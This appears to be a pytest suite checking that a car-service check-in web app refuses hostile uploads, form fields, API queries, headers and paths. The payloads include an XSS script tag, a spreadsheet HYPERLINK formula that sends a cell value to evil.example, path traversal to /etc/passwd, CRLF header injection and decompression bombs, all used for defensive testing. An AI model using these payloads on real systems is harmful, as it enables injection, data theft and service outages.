"""A hostile-input corpus through the real HTTP surface: files, form fields, the JSON
API, headers, path segments and query strings. Each case is answered with a 4xx and a
message a person can act on (in zh_CN, the default), and leaves every table's row count
and the photo folder as they were.

One test per surface runs its whole case table against one prepared database, so the
corpus stays quick on both backends; a failure lists every case that went wrong.
Script-looking text that is a legitimate note is accepted by design: it is stored as
typed and shown escaped, never run (the cases marked "accepted by design").
"""

from __future__ import annotations

import io
import json
import os
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any
from urllib.parse import urlencode

import pytest
from sqlalchemy import func, select

from app.i18n import _
from app.models import Base, LabourOperation, Role
from app.services.api import clients as api_clients
from tests.checkin_helpers import fresh, started_check_in
from tests.conftest import csrf_token, html, sign_in

pytestmark = pytest.mark.http_layer

PHOTOS = Path(
    os.environ.get("WALKAROUND_TESTDATA")
    or Path(__file__).resolve().parents[2] / "shared" / "testdata" / "photos"
)
SCRIPT = "<script>alert(1)</script>"
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
HIDDEN = "This field contains hidden or control characters. Please type it again."
NOT_VALID = "Some of the information sent was not valid."
NO_PAGE = "This page does not exist."
NOT_A_PHOTO = "This file is not a photo. Please upload a JPEG, PNG, WebP or HEIC image."
DAMAGED = "This photo is damaged or incomplete. Please take it again."
UNREADABLE = "This was sent in a format the app does not read. Reload the page and try again."


# -- the corpus ----------------------------------------------------------------------


@dataclass(frozen=True)
class Case:
    id: str
    method: str
    url: str  # "{check_in}" is filled in with the prepared check-in's id
    status: int
    said: str | Callable[[], str]  # a msgid (translated when checked) or the text itself
    send: dict[str, Any] | Callable[[], dict[str, Any]] = field(default_factory=dict)
    records: tuple[str, ...] = ()  # tables a refusal adds a row to by design (the audit)


def png(width: int, height: int, *chunks: tuple[bytes, bytes]) -> bytes:
    """A PNG whose header claims the given size, with extra chunks before the pixels."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        crc = zlib.crc32(kind + body) & 0xFFFFFFFF
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", crc)

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    pixels = zlib.compress(b"\0" * (1 + 3 * min(width, 64)) * min(height, 64))
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + b"".join(chunk(k, b) for k, b in chunks)
        + chunk(b"IDAT", pixels)
        + chunk(b"IEND", b"")
    )


def zip_named_jpg() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("photo.jpg", (PHOTOS / "orientation_1.jpg").read_bytes())
        archive.writestr("bomb.bin", b"\0" * 20_000_000)
    return buffer.getvalue()


def photo(name: str, content: bytes | Callable[[], bytes], mime: str = "image/jpeg", **form: str):
    def send() -> dict[str, Any]:
        body = content() if callable(content) else content
        return {
            "data": {"client_id": "hostile-0001", "position": "front", **form},
            "files": {"file": (name, body, mime)},
        }

    return send


UPLOAD = "/check-ins/{check_in}/photos"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
FILES = [
    Case("text named .jpg", "POST", UPLOAD, 422, NOT_A_PHOTO,
         photo("notes.jpg", b"this is not a photo\n" * 50)),
    Case("empty file", "POST", UPLOAD, 422, NOT_A_PHOTO, photo("empty.jpg", b"")),
    Case("html named .jpg", "POST", UPLOAD, 422, NOT_A_PHOTO,
         photo("page.jpg", f"<html><body>{SCRIPT}</body></html>".encode())),
    Case("svg with script", "POST", UPLOAD, 422, NOT_A_PHOTO,
         photo("car.svg", SVG, "image/svg+xml")),
    Case("zip named .jpg", "POST", UPLOAD, 422, NOT_A_PHOTO, photo("car.jpg", zip_named_jpg)),
    Case("pdf named .jpg", "POST", UPLOAD, 422, NOT_A_PHOTO,
         photo("car.jpg", b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF")),
    Case("gif", "POST", UPLOAD, 422, NOT_A_PHOTO,
         photo("car.gif", b"GIF89a\x01\x00\x01\x00\x00\x00\x00;", "image/gif")),
    Case("truncated jpeg", "POST", UPLOAD, 422, DAMAGED,
         photo("cut.jpg", (PHOTOS / "pixel6_ultrahdr_truncated.jpg").read_bytes)),
    Case("jpeg cut after its header", "POST", UPLOAD, 422, DAMAGED,
         photo("cut.jpg", lambda: (PHOTOS / "orientation_1.jpg").read_bytes()[:400])),
    Case("50 MB upload", "POST", UPLOAD, 413, "The upload is too large.",
         photo("huge.jpg", lambda: b"\xff\xd8" + b"\0" * (50 * 1024 * 1024))),
    Case("decompression bomb, 200 MP heic", "POST", UPLOAD, 413,
         lambda: _("This photo has too many pixels. The limit is %(limit)d megapixels.",
                   limit=50),
         photo("x.heic", (PHOTOS / "galaxy_s24ultra_200mp.heic").read_bytes)),
    Case("decompression bomb, png claiming 100000 x 100000", "POST", UPLOAD, 413,
         lambda: _("This photo has too many pixels. The limit is %(limit)d megapixels.",
                   limit=50),
         photo("bomb.png", png(100_000, 100_000), "image/png")),
    Case("png with a huge iCCP chunk (zlib bomb)", "POST", UPLOAD, 422, DAMAGED,
         photo("icc.png", lambda: png(64, 64, (b"iCCP", b"sRGB\0\0" + zlib.compress(
             b"\0" * 64_000_000, 9))), "image/png")),
    Case("png with a huge text chunk", "POST", UPLOAD, 422, DAMAGED,
         photo("text.png", lambda: png(64, 64, (b"zTXt", b"Comment\0\0" + zlib.compress(
             b"A" * 64_000_000, 9))), "image/png")),
    Case("client id with a path", "POST", UPLOAD, 422, "The photo has no valid id; take it again.",
         photo("ok.jpg", b"x", client_id="../../../../etc/passwd")),
    Case("client id with a NUL", "POST", UPLOAD, 422, "The photo has no valid id; take it again.",
         photo("ok.jpg", b"x", client_id="abcdefgh\x00ijk")),
    Case("damage mark id beyond any table", "POST", UPLOAD, 404,
         "This damage mark does not exist.",
         photo("ok.jpg", (PHOTOS / "orientation_1.jpg").read_bytes,
               damage_mark_id=str(10**30))),
    Case("negative damage mark id", "POST", UPLOAD, 404, "This damage mark does not exist.",
         photo("ok.jpg", (PHOTOS / "orientation_1.jpg").read_bytes,
               damage_mark_id="-1")),
    Case("no file at all", "POST", UPLOAD, 400, NOT_VALID,
         {"data": {"client_id": "hostile-0001"}, "files": {"other": ("a", b"a", "text/plain")}}),
]  # fmt: skip


def hx(data: dict[str, Any] | None = None, **send: Any) -> dict[str, Any]:
    return {"data": data, "headers": {"HX-Request": "true"}, **send}


WALK_IN = {"name": "周先生", "phone": "13800138000", "plate": "粤BA1234",
           "vin": "", "make": "Toyota", "model": "Camry"}  # fmt: skip
LABOUR = {"code": "L-HOSTILE", "name_zh": "更换机油", "name_en": "Oil change",
          "flat_rate_hours": "1", "labour_rate": "180"}  # fmt: skip
SAVE = "/check-ins/{check_in}/walkaround/save"
COVERS = "/check-ins/{check_in}/covers/save"
GREETING = "/check-ins/{check_in}/greeting/save"


def walk_in(**fields: str) -> dict[str, Any]:
    return {"data": {**WALK_IN, **fields}}


def labour(**fields: str) -> dict[str, Any]:
    return {"data": {**LABOUR, **fields}}


def not_a_number(value: str) -> Callable[[], str]:
    return lambda: _("“%(value)s” is not a number; write it like 45.50.", value=value)


def odometer(km: str) -> Callable[[], str]:
    return lambda: _("%(km)s km is not a possible odometer reading.", km=km)


FORMS = [
    # The walk-in form: a page shown again with the refused field's message.
    Case("name of 10,000 characters", "POST", "/walk-in/new", 422,
         lambda: _("At most %(n)s characters.", n=120), walk_in(name="周" * 10_000)),
    Case("name with a NUL", "POST", "/walk-in/new", 422, HIDDEN, walk_in(name="周\x00先生")),
    Case("name with an escape character", "POST", "/walk-in/new", 422, HIDDEN,
         walk_in(name="周\x1b[31m先生")),
    Case("plate with a bidi override", "POST", "/walk-in/new", 422, HIDDEN,
         walk_in(plate="粤B\u202eA1234")),
    Case("script-looking plate, shown escaped", "POST", "/walk-in/new", 422,
         lambda: _("%(plate)s is not a valid plate here.", plate="SCRIPTALERT1SCRIPT"),
         walk_in(plate=SCRIPT)),
    Case("formula-looking phone", "POST", "/walk-in/new", 422,
         "Enter an 11-digit mobile number, or a landline with its area code.",
         walk_in(phone='=HYPERLINK("x","y")')),
    Case("huge model year", "POST", "/walk-in/new", 422, "Enter the model year, e.g. 2021.",
         walk_in(year=str(10**40))),
    Case("negative model year", "POST", "/walk-in/new", 422, "Enter the model year, e.g. 2021.",
         walk_in(year="-2021")),
    Case("percent-encoded bytes that are not UTF-8", "POST", "/walk-in/new", 422, HIDDEN,
         {"content": b"name=%FF%FE%FD&" + urlencode({**WALK_IN, "name": ""}).encode()[5:],
          "headers": {"content-type": "application/x-www-form-urlencoded"}}),
    Case("raw bytes that are not UTF-8", "POST", "/walk-in/new", 415, UNREADABLE,
         {"content": b"name=\xff\xfe\xfd&" + urlencode({**WALK_IN, "name": ""}).encode()[5:],
          "headers": {"content-type": "application/x-www-form-urlencoded"}}),
    Case("JSON sent to a form", "POST", "/walk-in/new", 415, UNREADABLE, {"json": WALK_IN}),
    # The catalogue form: numbers and codes.
    Case("formula-looking rate", "POST", "/catalogue/labour/new", 422,
         not_a_number("=1+1"),
         labour(labour_rate="=1+1")),
    Case("negative rate", "POST", "/catalogue/labour/new", 422,
         "The labour rate cannot be negative.", labour(labour_rate="-180")),
    Case("rate of 10^30", "POST", "/catalogue/labour/new", 422,
         lambda: _("At most %(max)s.", max="99999999"), labour(labour_rate=str(10**30))),
    Case("rate written 1e400", "POST", "/catalogue/labour/new", 422,
         not_a_number("1e400"), labour(labour_rate="1e400")),
    Case("rate NaN", "POST", "/catalogue/labour/new", 422, not_a_number("NaN"),
         labour(labour_rate="NaN")),
    Case("hours Infinity", "POST", "/catalogue/labour/new", 422, not_a_number("Infinity"),
         labour(flat_rate_hours="Infinity")),
    Case("code of 10,000 characters", "POST", "/catalogue/labour/new", 422,
         lambda: _("At most %(n)s characters.", n=32), labour(code="L" * 10_000)),
    Case("Chinese name with a zero-width space", "POST", "/catalogue/labour/new", 422, HIDDEN,
         labour(name_zh="更换\u200b机油")),
    # Check-in autosave (htmx): a toast naming the field, nothing saved.
    Case("odometer of 10^30", "POST", SAVE, 422, odometer(str(10**30)),
         hx({"version": "1", "odometer_km": str(10**30)})),
    Case("negative odometer", "POST", SAVE, 422, odometer("-5"),
         hx({"version": "1", "odometer_km": "-5"})),
    Case("odometer in words", "POST", SAVE, 422, "Enter the odometer in whole kilometres.",
         hx({"version": "1", "odometer_km": "twelve thousand"})),
    Case("odometer of 5,000 digits", "POST", SAVE, 422,
         "Enter the odometer in whole kilometres.",
         hx({"version": "1", "odometer_km": "9" * 5_000})),
    Case("odometer NaN", "POST", SAVE, 422, "Enter the odometer in whole kilometres.",
         hx({"version": "1", "odometer_km": "NaN"})),
    Case("fuel of nine eighths", "POST", SAVE, 422, "Fuel is between empty and full.",
         hx({"version": "1", "fuel_eighths": "9"})),
    Case("negative fuel", "POST", SAVE, 422, "Fuel is between empty and full.",
         hx({"version": "1", "fuel_eighths": "-1"})),
    Case("fuel of 5,000 digits", "POST", SAVE, 422, "This value is not valid.",
         hx({"version": "1", "fuel_eighths": "1" * 5_000})),
    Case("script-looking warning light", "POST", SAVE, 422, "Choose one of the options.",
         hx({"version": "1", "warning_lights": SCRIPT})),
    Case("note of 10,000 characters", "POST", COVERS, 422,
         lambda: _("At most %(n)s characters.", n=500),
         hx({"version": "1", "covers_skip_reason": "拒" * 10_000})),
    Case("note with a bidi override", "POST", COVERS, 422, HIDDEN,
         hx({"version": "1", "covers_skip_reason": "客户\u202e拒绝"})),
    Case("formula-looking follow-up time", "POST", GREETING, 422, "Choose one of the options.",
         hx({"version": "1", "follow_up_when": HYPERLINK})),
    Case("phone with a NUL", "POST", GREETING, 422, HIDDEN,
         hx({"version": "1", "contact_phone": "138\x00"})),
    Case("JSON sent to the autosave", "POST", SAVE, 415, UNREADABLE,
         {"json": {"version": 1, "odometer_km": [[[[1]]]]}, "headers": {"HX-Request": "true"}}),
    # Sign-in: an oversize username is simply wrong.
    Case("username of 100,000 characters (a failed sign-in is audited by design)", "POST",
         "/sign-in", 422, "Wrong username or password.",
         {"data": {"username": "a" * 100_000, "password": "x"}},
         records=("audit_event", "login_throttle")),
]  # fmt: skip


def nested(depth: int) -> str:
    return "[" * depth + "]" * depth


def api(url: str, status: int, said: str, note: str = "", **send: Any) -> Case:
    method = send.pop("method", "GET")
    return Case(f"{method} {url[:70]} {note}".strip(), method, url, status, said, send)


NO_ORDER = "There is no work order with number"
NOT_HANDLED = "The request could not be handled."


def bad_param(name: str) -> str:
    return f"Invalid query parameter: {name}."


JSON_API = [
    api("/api/v1/work-orders?limit=abc", 400, bad_param("limit")),
    api("/api/v1/work-orders?limit=-1", 400, bad_param("limit")),
    api("/api/v1/work-orders?limit=0", 400, bad_param("limit")),
    api(f"/api/v1/work-orders?limit={10**30}", 400, bad_param("limit")),
    api("/api/v1/work-orders?limit=1e3", 400, bad_param("limit")),
    api("/api/v1/work-orders?offset=-1", 400, bad_param("offset")),
    api(f"/api/v1/work-orders?offset={2**63}", 400, bad_param("offset")),
    api("/api/v1/work-orders?status=%3Cscript%3E", 400, bad_param("status")),
    api("/api/v1/work-orders?status=open&status=closed", 400, bad_param("status")),
    api("/api/v1/work-orders?updated_since=yesterday", 400, bad_param("updated_since")),
    api("/api/v1/work-orders?updated_since=99999-01-01T00:00:00Z", 400,
        bad_param("updated_since")),
    api("/api/v1/work-orders?limit=1&limit=2", 400, bad_param("limit"), "repeated"),
    api("/api/v1/work-orders?offset=0&offset=" + "&offset=".join(["1"] * 500), 400,
        bad_param("offset"), "repeated 500 times"),
    api("/api/v1/work-orders/%3Cscript%3E", 404, NO_ORDER),
    api("/api/v1/work-orders/" + "W" * 10_000, 404, NO_ORDER),
    api("/api/v1/work-orders", 405, NOT_HANDLED, "JSON nested 100,000 deep", method="POST",
        content=nested(100_000).encode(), headers={"content-type": "application/json"}),
    api("/api/v1/work-orders", 405, NOT_HANDLED, "JSON of wrong types, a 300-digit number",
        method="POST", json={"limit": 10**300, "status": [1, {"a": None}], "offset": "0"}),
    api("/api/v1/work-orders", 405, NOT_HANDLED, "wrong content type, not UTF-8", method="PUT",
        content=b"\xff\xfe{", headers={"content-type": "text/plain; charset=utf-7"}),
    api("/api/v1/work-orders/WO-1", 405, NOT_HANDLED, "JSON patch", method="PATCH",
        json=[{"op": "replace", "path": "/status", "value": "delivered"}]),
]  # fmt: skip

JSON_ONLY = {"accept": "application/json"}
TOKEN_CHARS = "abcdefghijklmnopqrstuvwxyz0123456789"
HEADERS = [
    Case("oversize garbage session cookie", "GET", "/lane", 401, "Sign in first.",
         {"headers": {**JSON_ONLY, "cookie": "session=" + "\u00ff".encode().hex() * 4_000}}),
    Case("garbage Accept-Language falls back to zh_CN", "GET", "/no-such-page", 404, NO_PAGE,
         {"headers": {"accept-language": "xx-\\;q=abc, *;q=NaN, " + "zz;q=9," * 2_000}}),
    Case("Accept-Language with an encoded NUL and q=1e999", "GET", "/no-such-page", 404, NO_PAGE,
         {"headers": {"accept-language": "%00en;q=1e999"}}),
    Case("CRLF in X-Request-ID", "GET", "/no-such-page", 404, NO_PAGE,
         {"headers": {"x-request-id": "abcdefgh\r\nSet-Cookie: session=stolen"}}),
    Case("X-Request-ID of 10,000 characters", "GET", "/no-such-page", 404, NO_PAGE,
         {"headers": {"x-request-id": "r" * 10_000}}),
    Case("bearer token of 100 KB", "GET", "/api/v1/work-orders", 401,
         "A valid API token is required: send Authorization: Bearer <token>.",
         {"headers": {"authorization": "Bearer " + TOKEN_CHARS * 3_000}}),
    Case("bearer token that is not ASCII", "GET", "/api/v1/work-orders", 401,
         "A valid API token is required: send Authorization: Bearer <token>.",
         {"headers": {"authorization": "Bearer 令牌".encode()}}),
    Case("garbage CSRF token", "POST", "/walk-in/new", 403,
         "This form has expired or did not come from this app. "
         "Reload the page and try again; nothing was changed.",
         {"data": WALK_IN, "headers": {"x-csrftoken": "\u00ff".encode().hex() * 2_000}}),
    Case("multipart without a boundary", "POST", "/walk-in/new", 415, UNREADABLE,
         {"content": b"--x\r\nContent-Disposition: form-data; name=name\r\n\r\nA\r\n--x--",
          "headers": {"content-type": "multipart/form-data"}}),
    Case("form declared as UTF-16", "POST", "/walk-in/new", 415, UNREADABLE,
         {"content": "name=周".encode("utf-16"),
          "headers": {"content-type": "application/x-www-form-urlencoded; charset=utf-16"}}),
    Case("text/plain body to a form", "POST", "/walk-in/new", 415, UNREADABLE,
         {"content": b"name=A&phone=13800138000",
          "headers": {"content-type": "text/plain"}}),
    Case("XML body to the autosave", "POST", SAVE, 415, UNREADABLE,
         {"content": b"<?xml version='1.0'?><!DOCTYPE x [<!ENTITY a 'a'>]><x>&a;</x>",
          "headers": {"content-type": "application/xml", "HX-Request": "true"}}),
]  # fmt: skip

PATHS = [
    Case("id of 10^30", "GET", f"/work-orders/{10**30}", 404, NO_PAGE),
    Case("negative id", "GET", "/work-orders/-1", 404, NO_PAGE),
    Case("id zero", "GET", "/verify/0", 404, NO_PAGE),
    Case("non-numeric id", "GET", "/work-orders/abc", 404, NO_PAGE),
    Case("id written 1e3", "GET", "/check-ins/1e3", 404, NO_PAGE),
    Case("encoded slashes in an id", "GET", "/work-orders/1%2F..%2F..%2Fadmin", 404, NO_PAGE),
    Case("dot-dot out of the static folder", "GET", "/static/%2e%2e/%2e%2e/app/settings.py",
         404, NO_PAGE),
    Case("dot-dot in a photo size", "GET", "/photos/1/..%2F..%2Fsettings", 404, NO_PAGE),
    Case("unicode catalogue kind", "GET", "/catalogue/%E5%B7%A5%E6%97%B6", 404, NO_PAGE),
    Case("NUL in a catalogue kind", "GET", "/catalogue/labour%00", 404, NO_PAGE),
    Case("script in an approval token", "GET", "/approve/%3Cscript%3Ealert(1)%3C%2Fscript%3E",
         404, NO_PAGE),
    Case("verification token of 10,000 characters", "GET", "/v/" + "x" * 10_000, 404,
         "This link does not work"),
    Case("save to an unknown step", "POST", "/check-ins/{check_in}/..%2F..%2Fadmin/save", 404,
         NO_PAGE, hx({"version": "1"})),
]  # fmt: skip

TOO_LONG = lambda: _("A search is at most %(n)s characters long.", n=100)  # noqa: E731
QUERIES = [
    Case("search of 60,000 characters", "GET", "/walk-in?q=" + "A" * 60_000, 400, TOO_LONG),
    Case("catalogue search of 60,000 characters", "GET",
         "/catalogue/parts?q=" + "A" * 60_000, 400, TOO_LONG),
    Case("search with a NUL", "GET", "/walk-in?q=%00", 400, HIDDEN),
    Case("catalogue search with a NUL", "GET", "/catalogue/labour?q=a%00b", 400, HIDDEN),
    Case("search with a bidi override", "GET", "/walk-in?q=%E2%80%AE1234", 400, HIDDEN),
    Case("search with bytes that are not UTF-8", "GET", "/walk-in?q=%FF%FE", 400, HIDDEN),
    Case("catalogue search with an escape character", "GET", "/catalogue/packages?q=%1B%5B2J",
         400, HIDDEN),
]  # fmt: skip


# -- checking a case -------------------------------------------------------------------


async def snapshot(db: Any, folder: Path) -> tuple[dict[str, int], list[str]]:
    """Every table's row count and every file under the photo folder."""
    await db.rollback()  # a new snapshot of what the app committed
    counts = {
        table.name: await db.scalar(select(func.count()).select_from(table))
        for table in Base.metadata.sorted_tables
    }
    return counts, _files(folder)


def _files(folder: Path) -> list[str]:
    return sorted(str(p.relative_to(folder)) for p in folder.rglob("*")) if folder.exists() else []


def message_of(response: Any) -> str:
    """What the person is told: the JSON error, the toast, or the page's text."""
    if response.headers.get("content-type", "").startswith("application/json"):
        return str(response.json().get("error"))
    if "HX-Trigger" in response.headers:
        return str(json.loads(response.headers["HX-Trigger"])["wa:toast"]["message"])
    return html(response).get_text(" ", strip=True)


def _said(case: Case) -> str:
    return case.said() if callable(case.said) else _(case.said)


async def run(cases: list[Case], client: Any, db: Any, settings: Any, **fill: Any) -> None:
    problems: dict[str, str] = {}
    for case in cases:
        before = await snapshot(db, settings.photos)
        send = case.send() if callable(case.send) else dict(case.send)
        response = await client.request(case.method, case.url.format(**fill), **send)
        after = await snapshot(db, settings.photos)
        wrong = []
        if response.status_code != case.status:
            wrong.append(f"status {response.status_code}")
        told = message_of(response)
        if _said(case) not in told:
            wrong.append(f"said {told[-160:]!r}")
        for table in case.records:
            after[0][table] = before[0][table]
        if after != before:
            wrong.append("changed the database or the photo folder")
        # Nothing sent is echoed unescaped, and no header was injected.
        if "<script>alert" in response.text:
            wrong.append("echoed a script unescaped")
        if any("\r" in v or "\n" in v or "stolen" in v for v in response.headers.values()):
            wrong.append("a header was injected")
        if wrong:
            problems[case.id] = "; ".join(wrong)
    assert problems == {}, "\n".join(f"{k}: {v}" for k, v in problems.items())


@pytest.fixture(name="signed_in")
async def fx_signed_in(client, db, settings, users) -> dict[str, Any]:
    """A check-in under way, and a service manager signed in (advisor screens too)."""
    check_in_id = await started_check_in(db, settings, users)
    await sign_in(client, Role.SERVICE_MANAGER)
    token = await csrf_token(client, f"/check-ins/{check_in_id}/walkaround")
    client.headers["x-csrftoken"] = token
    return {"check_in": check_in_id}


def test_the_corpus_has_at_least_50_cases() -> None:
    cases = FILES + FORMS + JSON_API + HEADERS + PATHS + QUERIES + UNKNOWN_STEPS
    assert len(cases) >= 50
    assert len({c.id for c in cases}) == len(cases)


async def test_hostile_files_are_refused(client, db, settings, signed_in) -> None:
    await run(FILES, client, db, settings, **signed_in)


async def test_hostile_form_fields_are_refused(client, db, settings, signed_in) -> None:
    version = (await fresh(db, signed_in["check_in"])).version
    await run(FORMS, client, db, settings, **signed_in)
    assert (await fresh(db, signed_in["check_in"])).version == version


async def test_hostile_requests_to_the_json_api_are_refused(client, db, settings) -> None:
    _client, token = await api_clients.create_client(db, "DMS")
    await db.commit()
    client.headers["authorization"] = f"Bearer {token}"
    await run(JSON_API, client, db, settings)


async def test_hostile_headers_are_refused(client, db, settings, signed_in) -> None:
    await run(HEADERS, client, db, settings, **signed_in)


async def test_hostile_path_segments_are_refused(client, db, settings, signed_in) -> None:
    await run(PATHS, client, db, settings, **signed_in)


async def test_hostile_query_strings_are_refused(client, db, settings, users) -> None:
    await sign_in(client, Role.SERVICE_MANAGER)
    await run(QUERIES, client, db, settings)


# Once answered 422 "unknown step" in English, a message no advisor reads: a page that does
# not exist, like any other.
UNKNOWN_STEPS = [
    Case("unicode step name", "GET", "/check-ins/{check_in}/%E2%80%AEgreeting", 404, NO_PAGE),
    Case("unknown step", "GET", "/check-ins/{check_in}/..%2Fadmin", 404, NO_PAGE),
]


async def test_an_unknown_check_in_step_is_a_page_that_does_not_exist(
    client, db, settings, signed_in
) -> None:
    await run(UNKNOWN_STEPS, client, db, settings, **signed_in)


# -- accepted by design ------------------------------------------------------------------


async def test_script_looking_note_is_accepted_by_design_stored_as_typed_and_shown_escaped(
    client, db, settings, signed_in
) -> None:
    check_in_id = signed_in["check_in"]
    saved = await client.post(
        f"/check-ins/{check_in_id}/covers/save",
        data={"version": "1", "covers_skip_reason": SCRIPT},
        headers={"HX-Request": "true"},
    )
    assert saved.status_code == 200
    assert (await fresh(db, check_in_id)).covers_skip_reason == SCRIPT
    page = await client.get(f"/check-ins/{check_in_id}/covers")
    assert page.status_code == 200
    assert SCRIPT not in page.text
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page.text


async def test_formula_looking_name_is_accepted_by_design_and_exported_as_text(
    client, db, settings, users
) -> None:
    await sign_in(client, Role.SERVICE_MANAGER)
    token = await csrf_token(client, "/catalogue/labour/new")
    created = await client.post(
        "/catalogue/labour/new", data={**LABOUR, "name_en": HYPERLINK, "_csrf_token": token}
    )
    assert created.status_code == 303, created.text
    assert await db.scalar(select(LabourOperation.name_en)) == HYPERLINK
    exported = await client.get("/catalogue/export/labour")
    assert "'" + HYPERLINK.replace('"', '""') in exported.content.decode("utf-8-sig")
